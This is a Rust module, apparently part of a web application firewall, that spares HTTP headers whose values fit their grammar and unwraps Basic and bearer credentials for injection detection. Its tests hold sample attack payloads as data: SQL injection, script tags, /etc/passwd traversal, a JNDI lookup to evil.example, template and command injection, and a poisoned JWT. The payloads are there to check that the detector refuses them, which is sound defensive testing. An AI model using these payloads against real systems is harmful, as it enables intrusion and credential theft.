//! Headers: which of them a look at their grammar spares the detectors, and credentials that wrap text.
//!
//! **In:** a field of the head. **Out:** calls of [`Inspection::value`].
//! **Invariant:** no header is left out by its name alone: one that applications read as text is only when its value is what the grammar
//! of its name allows and nothing else. A name that merely begins like another's is nobody's.
//! **Source:** RFC 9110 §5.6 and §12.5 (lists), §8.8.3 (entity tags), §5.6.7 (dates), §11 (credentials); RFC 7617 (Basic).
//! **Cost:** two look-ups a byte for the names a browser sends with every request; lists that all browsers of a kind send alike, a
//! comparison.

use alloc::vec::Vec;

use super::bytes::{self, classes, rest};
use super::clean::{Clean, Field};
use super::inspection::{Encoding, Inspection, Place};
use super::{decode, lanes, protocol};

/// Bytes of a value that is looked at, or judged by its grammar, sooner than it is found among those seen before.
const SHORT: usize = 16;

/// Looks at one field. `judged`: somebody else verifies bearer tokens.
pub(super) fn look(
    name: &[u8],
    value: &[u8],
    judged: bool,
    clean: &mut Clean,
    inspection: &mut Inspection<'_>,
) {
    if is_nobodys(name) {
        return;
    }
    let short = value.len() < SHORT;
    if (short || is_known(value)) && is_spared(name, value) {
        return;
    }
    if short && classes(value) & !bytes::DOT == 0 {
        look_at(name, value, judged, inspection);
        return;
    }
    if is_credentials(name) && (judged || bytes::has_at(value, 0, b"basic ")) {
        // Whether a password, which can be guessed, was seen of late is nobody's to learn; to pass a judged token by costs less.
        look_at(name, value, judged, inspection);
        return;
    }
    inspection.once((Field::Header, name, value), clean, |inspection| {
        if short || !is_spared(name, value) {
            look_at(name, value, judged, inspection);
        }
    });
}

fn look_at(name: &[u8], value: &[u8], judged: bool, inspection: &mut Inspection<'_>) {
    if is_credentials(name) && look_at_credentials(name, value, judged, inspection) {
        return;
    }
    inspection.value(Place::Header, name, value, Encoding::Plain);
    if name.eq_ignore_ascii_case(b"content-type") {
        protocol::content_type(Place::Header, name, value, inspection);
    }
}

fn is_credentials(name: &[u8]) -> bool {
    name.eq_ignore_ascii_case(b"authorization") || name.eq_ignore_ascii_case(b"proxy-authorization")
}

/// Classes of the bytes of a token (RFC 9110 §11.2, `token68`).
const TOKEN68: u32 =
    bytes::PLUS | bytes::SLASH | bytes::OPERATOR | bytes::SCORE | bytes::DOT | bytes::BLANK;

/// Looks at what `Basic` wraps, and into a bearer token; whether the field was one of them.
fn look_at_credentials(
    name: &[u8],
    value: &[u8],
    judged: bool,
    inspection: &mut Inspection<'_>,
) -> bool {
    if bytes::has_at(value, 0, b"bearer ") {
        let token = rest(value, 7).trim_ascii();
        // What is no token is nobody's.
        if !judged || classes(token) & !TOKEN68 != 0 || token.contains(&b' ') {
            inspection.value(Place::Header, name, token, Encoding::Plain);
        }
        return true;
    }
    let mut text = Vec::new();
    if !bytes::has_at(value, 0, b"basic ") || !decode::binary(rest(value, 6), &mut text) {
        return false;
    }
    let colon = text.iter().position(|&byte| byte == b':');
    let (user, password) = text.split_at(colon.unwrap_or(text.len()).min(text.len()));
    inspection.value(Place::Header, name, user, Encoding::Plain);
    inspection.value(Place::Header, name, rest(password, 1), Encoding::Plain);
    true
}

/// Whether the value is judged elsewhere: as cookies, or by the header stage, which allows a name or an address in `host` and digits
/// in `content-length`, nothing else.
fn is_nobodys(name: &[u8]) -> bool {
    let is = |other: &[u8]| name.eq_ignore_ascii_case(other);
    match name.first().map(u8::to_ascii_lowercase) {
        Some(b'c') => is(b"cookie") || is(b"content-length"),
        Some(b'h') => is(b"host"),
        _ => false,
    }
}

/// Whether nobody needs to look at the value, because it is what the grammar of its name allows.
fn is_spared(name: &[u8], value: &[u8]) -> bool {
    let is = |other: &[u8]| name.eq_ignore_ascii_case(other);
    match name.first().map(u8::to_ascii_lowercase) {
        Some(b'a') if bytes::has_at(name, 0, b"accept") => is_list(value),
        Some(b'c') => (is(b"connection") || is(b"cache-control")) && is_list(value),
        Some(b'd') => is(b"date") && is_date(value),
        Some(b'i') if bytes::has_at(name, 0, b"if-") => is_date(value) || is_list(value),
        Some(b's') if bytes::has_at(name, 0, b"sec-") => is_list(value),
        _ => false,
    }
}

/// Lists that browsers send byte for byte.
const KNOWN: [&[u8]; 12] = [
    b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.9",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    b"image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
    b"image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5",
    b"image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5",
    b"application/json, text/plain, */*",
    b"gzip, deflate, br, zstd",
    b"text/css,*/*;q=0.1",
    b"gzip, deflate, br",
];

/// Where a reader of a list is: behind a separator, in a word, behind a dot, or behind a blank that ends an element, which only a
/// separator, `=` or `/` may follow.
const BETWEEN: u8 = 0;
const WORD: u8 = 1;
const DOTTED: u8 = 2;
const PARTED: u8 = 3;
/// The element has a slash.
const SLASHED: u8 = 4;
/// A parameter has no value yet.
const OWES: u8 = 8;
/// No list.
const NONE: u8 = 16;

/// Kinds of bytes, times 16: a row of [`NEXT`].
const TOKEN: u8 = 0;
const DOT: u8 = 1 << 4;
const COMMA: u8 = 2 << 4;
const SEMICOLON: u8 = 3 << 4;
const EQUALS: u8 = 4 << 4;
const SLASH: u8 = 5 << 4;
const BLANK: u8 = 6 << 4;
const QUOTE: u8 = 7 << 4;
const OTHER: u8 = 8 << 4;

const fn kind(byte: u8) -> u8 {
    match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'*' | b'+' | b'?' | b'_' => TOKEN,
        b'.' => DOT,
        b',' => COMMA,
        b';' => SEMICOLON,
        b'=' => EQUALS,
        b'/' => SLASH,
        b' ' | b'\t' => BLANK,
        b'"' => QUOTE,
        _ => OTHER,
    }
}

/// Where a byte of a kind leads from a state. A quoted string counts as its last quote.
const fn step(kind: u8, state: u8) -> u8 {
    let (place, slashed, owes) = (state & 3, state & SLASHED, state & OWES);
    match kind {
        TOKEN if place != PARTED => WORD | slashed | owes,
        QUOTE if place != PARTED => WORD | slashed | owes,
        DOT if place != PARTED && place != DOTTED => DOTTED | slashed | owes,
        COMMA if owes == 0 => BETWEEN,
        SEMICOLON if owes == 0 => BETWEEN | slashed | OWES,
        EQUALS => WORD | slashed,
        SLASH if slashed == 0 => WORD | SLASHED | owes,
        BLANK if place == BETWEEN => state,
        BLANK => PARTED | slashed | owes,
        _ => NONE,
    }
}

#[expect(
    clippy::indexing_slicing,
    clippy::as_conversions,
    reason = "runs while compiling: a fault is a build error"
)]
static KINDS: [u8; 256] = {
    let mut table = [OTHER; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = kind(byte as u8);
        byte += 1;
    }
    table
};

#[expect(
    clippy::indexing_slicing,
    clippy::as_conversions,
    reason = "runs while compiling: a fault is a build error"
)]
static NEXT: [u8; 256] = {
    let mut table = [NONE; 256];
    let mut at = 0;
    while at < 256 {
        table[at] = step(at as u8 & 0xF0, at as u8 & 15);
        at += 1;
    }
    table
};

/// `text/html;q=0.9, */*`, `W/"1f-5"`, `"Chromium";v="138"`: elements of one word, or two with a slash between them, parameters with a
/// value each, quoted strings of no more than two words; blanks only behind `,` and `;`.
pub(super) fn is_list(value: &[u8]) -> bool {
    is_known(value) || reads(value)
}

fn is_known(value: &[u8]) -> bool {
    KNOWN
        .iter()
        .any(|known| known.len() == value.len() && lanes::same(known, value))
}

fn reads(value: &[u8]) -> bool {
    let mut state = BETWEEN;
    let mut left = value;
    while let Some((&byte, after)) = left.split_first() {
        let kind = KINDS.get(usize::from(byte)).copied().unwrap_or(OTHER);
        state = NEXT.get(usize::from(kind | state)).copied().unwrap_or(NONE);
        if state == NONE {
            return false;
        }
        left = after;
        if kind == QUOTE {
            let Some(end) = after.iter().position(|&byte| byte == b'"') else {
                return false;
            };
            if !is_title(bytes::upto(after, end)) {
                return false;
            }
            left = rest(after, end.saturating_add(1));
        }
    }
    state & OWES == 0
}

/// The name of a program, a version, an entity tag: two words at most. Browsers hide a name among theirs that no reader may depend on
/// (`Not;A=Brand`, with signs that change): its letters are always the same.
fn is_title(text: &[u8]) -> bool {
    let blanks = bytes::tally(text.iter().filter(|&&byte| byte == b' '));
    let dots = bytes::pair(text, |one, two| one == b'.' && two == b'.');
    let quiet = |&byte: &u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b' ' | b'.' | b'-' | b'_' | b'+' | b'/' | b'=' | b':')
    };
    if blanks < 2 && dots.is_none() && text.iter().all(quiet) {
        return true;
    }
    let letters = text.iter().filter(|byte| byte.is_ascii_alphanumeric());
    text.len() <= 20 && letters.eq(b"NotABrand")
}

/// `Sun, 06 Nov 1994 08:49:37 GMT`.
fn is_date(value: &[u8]) -> bool {
    const SHAPE: &[u8] = b"aaa, 00 aaa 0000 00:00:00 GMT";
    value.len() == SHAPE.len()
        && value.iter().zip(SHAPE).all(|(&byte, &shape)| match shape {
            b'a' => byte.is_ascii_alphabetic(),
            b'0' => byte.is_ascii_digit(),
            other => byte == other,
        })
}

#[cfg(test)]
mod tests {
    use super::super::{Here, InjectionStage};
    use super::{KNOWN, is_date, is_list, is_spared, is_title, reads};
    use crate::budget::MAX_STEPS;
    use crate::finding::Findings;
    use crate::request::RequestHead;
    use crate::testing::Random;
    use crate::units::UnixTime;

    fn is_refused_by(stage: &InjectionStage, name: &str, value: &str) -> bool {
        let pairs = [(name.as_bytes(), value.as_bytes())];
        let head = RequestHead::decode(pairs.into_iter());
        let (mut steps, mut found) = (MAX_STEPS, Findings::default());
        let here = Here::new(b"", UnixTime(0));
        stage
            .inspect_head(&head, here, &mut steps, &mut found)
            .is_err()
    }

    fn is_refused(name: &str, value: &str) -> bool {
        is_refused_by(&InjectionStage::new(1, 5), name, value)
    }

    #[test]
    fn what_browsers_send_is_spared() {
        for (name, value) in [
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            ),
            ("accept-language", "de-CH,de;q=0.9, en;q=0.8 , *;q=0.5"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("cache-control", "max-age=0, no-cache"),
            ("connection", "keep-alive, Upgrade"),
            (
                "sec-ch-ua",
                "\"Not)A;Brand\";v=\"8\", \"Chromium\";v=\"138\", \"Google Chrome\";v=\"138\"",
            ),
            (
                "sec-ch-ua-full-version-list",
                "\"/Not.A/Brand\";v=\"99.0.0.0\", \"Opera GX\";v=\"12.1.2.3\"",
            ),
            ("sec-ch-ua-mobile", "?0"),
            ("sec-ch-ua-platform", "\"Chrome OS\""),
            ("sec-fetch-mode", "navigate"),
            ("if-none-match", "W/\"67ab43-5d+/=\", \"a:b\""),
            ("if-modified-since", "Sun, 06 Nov 1994 08:49:37 GMT"),
            ("date", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ] {
            assert!(
                is_spared(name.as_bytes(), value.as_bytes()),
                "{name}: {value}"
            );
            assert!(!is_refused(name, value), "{name}: {value}");
        }
        // These are looked at, and are no attack.
        for (name, value) in [
            (
                "accept",
                "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
            ),
            (
                "sec-websocket-extensions",
                "permessage-deflate; client_max_window_bits",
            ),
            (
                "sec-websocket-protocol",
                "graphql-transport-ws, base64url.bearer.k8s.io",
            ),
            ("if-none-match", "W/\"it's mine, (1)\""),
            ("date", "Sunday, 06-Nov-94 08:49:37 GMT"),
            ("authorization", "Bearer abc.def-ghi_jkl~mno+pqr/stu=="),
            (
                "authorization",
                "Basic Ym9iOmMwcnJlY3QgaG9yc2UgJ3RpcyBiYXR0ZXJ5ICYgc3RhcGxl",
            ),
            (
                "authorization",
                "Digest username=\"bob\", realm=\"a@b\", uri=\"/x?y=1\"",
            ),
        ] {
            assert!(!is_refused(name, value), "{name}: {value}");
        }
    }

    /// The grammar once more, an element at a time.
    fn is_list_by_parts(value: &str) -> bool {
        let Some(texts) = value
            .split('"')
            .skip(1)
            .step_by(2)
            .map(|text| is_title(text.as_bytes()).then_some(()))
            .collect::<Option<Vec<()>>>()
        else {
            return false;
        };
        if value.matches('"').count() != texts.len().saturating_mul(2) {
            return false;
        }
        // A string is a word; a blank before it parts it from what stands before.
        let mut plain = String::new();
        for (index, text) in value.split('"').enumerate() {
            plain.push_str(if index % 2 == 0 { text } else { "\u{1}" });
        }
        let is_of_word = |sign: char| sign.is_ascii_alphanumeric() || "-*+?_\u{1}".contains(sign);
        plain.split(',').all(|element| {
            let slashes = element.matches('/').count();
            let owed = element
                .split(';')
                .skip(1)
                .all(|parameter| parameter.contains('='));
            let parts = element.split(';').all(|part| {
                let part = part.trim_start_matches([' ', '\t']);
                let mut before = ' ';
                let mut parted = false;
                part.chars().all(|sign| {
                    let fits = match sign {
                        ' ' | '\t' => {
                            parted = true;
                            true
                        }
                        '.' => !parted && before != '.',
                        '=' | '/' => {
                            parted = false;
                            true
                        }
                        _ => is_of_word(sign) && !parted,
                    };
                    before = sign;
                    fits
                })
            });
            slashes < 2 && owed && parts
        })
    }

    #[test]
    fn a_list_is_read_as_its_grammar_says() {
        const PIECES: [&str; 20] = [
            "a",
            "text",
            "0.5",
            "*",
            "q",
            "-",
            ".",
            ",",
            ";",
            "=",
            "/",
            " ",
            "\t",
            "\"a b\"",
            "\"a b c\"",
            "\"",
            "(",
            "?0",
            "\u{e9}",
            "W",
        ];
        for known in KNOWN {
            assert!(reads(known), "{}", known.escape_ascii());
        }
        let mut random = Random::new(7);
        let mut lists = 0;
        for _ in 0..40_000 {
            let value: String = (0..=random.below(7))
                .map(|_| PIECES[random.below(PIECES.len())])
                .collect();
            let is = is_list(value.as_bytes());
            lists += usize::from(is);
            assert_eq!(is, is_list_by_parts(&value), "{value}");
        }
        assert!(lists > 2_000, "{lists}");
    }

    #[test]
    fn no_name_hides_an_attack() {
        const ATTACKS: [&str; 6] = [
            "' OR 1=1-- ",
            "1 UNION SELECT password FROM users",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
        ];
        for name in [
            "accept",
            "accept-language",
            "accept-encoding",
            "acceptance",
            "if-none-match",
            "if-anything",
            "sec-ch-ua",
            "sec-websocket-protocol",
            "sec-anything",
            "cache-control",
            "connection",
            "date",
            "dnt",
        ] {
            for attack in ATTACKS {
                for value in [
                    attack.to_owned(),
                    format!("en, {attack}"),
                    format!("\"{attack}\""),
                ] {
                    assert!(!is_list(value.as_bytes()), "{value}");
                    assert!(!is_date(value.as_bytes()), "{value}");
                    // In quotes a call, a tag or a path is one all the same.
                    assert!(
                        is_refused(name, &value) || value.starts_with('"'),
                        "{name}: {value}"
                    );
                }
            }
        }
        assert!(!is_list(b"text/html; cat /etc/passwd"));
        assert!(!is_list(b"text/html;id"));
        assert!(!is_list(b"a b"));
        assert!(!is_list(b"`id`"));
        assert!(!is_list(b"a..b"));
        assert!(!is_list(b"\"a"));
    }

    #[test]
    fn credentials_are_unwrapped() {
        for value in [
            // `' OR 1=1-- :x`, `bob:<script>alert(1)</script>`.
            "Basic JyBPUiAxPTEtLSA6eA==",
            "bAsIc Ym9iOjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4",
            "Bearer ' OR 1=1-- ",
            "Bearer 1 UNION SELECT password FROM users",
        ] {
            assert!(is_refused("authorization", value), "{value}");
            assert!(is_refused("proxy-authorization", value), "{value}");
        }
        // `{"alg":"HS256","kid":"x' UNION SELECT 'key'-- "}.{"sub":1}`: whoever verifies tokens refuses it, if somebody does.
        let token = "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAna2V5Jy0tICJ9.eyJzdWIiOjF9.c2lnbmF0dXJl";
        let mut stage = InjectionStage::new(1, 5);
        assert!(is_refused_by(&stage, "authorization", token));
        stage.inspect.tokens = false;
        assert!(!is_refused_by(&stage, "authorization", token));
        assert!(is_refused_by(&stage, "authorization", "Bearer ' OR 1=1-- "));
    }
}
